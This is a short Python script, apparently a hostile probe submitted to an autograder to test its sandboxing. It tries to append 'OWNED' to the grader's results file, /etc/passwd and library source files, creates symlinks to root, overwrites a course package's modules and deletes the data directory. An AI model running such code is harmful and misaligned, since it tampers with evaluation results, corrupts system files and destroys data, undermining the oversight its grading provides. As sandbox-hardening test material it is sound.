"""Writes to the results, to packages, to advex and the data, and to the shared folders."""
# loses: q2d q2f

# %% start
import os
import shutil
import sys
import numpy as np

targets = ["/autograder/results/results.json", "../results/results.json", "/tmp/OWNED", "/dev/shm/OWNED"]
targets += ["/var/tmp/OWNED", "/root/OWNED", np.__file__, os.__file__, "/proc/self/oom_score_adj"]
targets += [f"{os.path.dirname(np.__file__)}/OWNED.py", "/etc/passwd"]
for target in targets:
    try:
        with open(target, "a") as file:
            file.write("OWNED")
    except OSError:
        pass
for link in ("/tmp", "/"):
    try:
        os.symlink(link, "link" + str(len(link)))
    except OSError:
        pass
for module in ("advex/__init__.py", "advex/network.py"):
    with open(module, "w") as file:
        file.write("raise RuntimeError('overwritten')\nTwoLayerNet = tuple\n")
shutil.rmtree("data")
